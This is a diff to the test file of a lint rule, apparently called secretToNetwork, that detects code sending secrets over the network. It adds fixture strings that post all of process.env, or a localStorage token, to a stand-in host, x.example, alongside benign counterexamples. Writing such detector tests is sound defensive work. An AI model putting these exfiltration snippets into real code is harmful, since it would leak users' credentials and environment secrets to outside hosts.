@@ -3,6 +3,11 @@ import { secretToNetwork } from './secret-to-network.ts';
 
 describeRule(secretToNetwork, {
   reports: {
+    'a client that was made for an address':
+      "import axios from 'axios';\nconst http = axios.create({ baseURL: 'https://x.example' });\nhttp.post('/in', { env: process.env });",
+    'the state of a store':
+      "export const store = { state: () => ({ token: localStorage.getItem('t') }), actions: { ping() { return fetch('https://x.example/?' + this.token); } } };",
+
     'an object rest':
       "const { a, ...rest } = process.env;\nfetch('https://x.example', { method: 'POST', body: JSON.stringify(rest) });",
     'a reducer':
@@ -42,6 +47,9 @@ describeRule(secretToNetwork, {
       "const all = { at: 1, ...JSON.parse(document.cookie) };\nfetch('https://x.example/?' + all.session);",
   },
   leaves: {
+    'the state of a store that is shown':
+      "export const store = { state: () => ({ theme: localStorage.getItem('t') }), actions: { ping() { show(this.theme); return fetch('https://x.example/'); } } };",
+
     'a value that is shown':
       "root.addEventListener('change', (e) => { const field = e.target; if (/cvc/.test(field.name)) show(field.value); });",
     'an error that is shown':
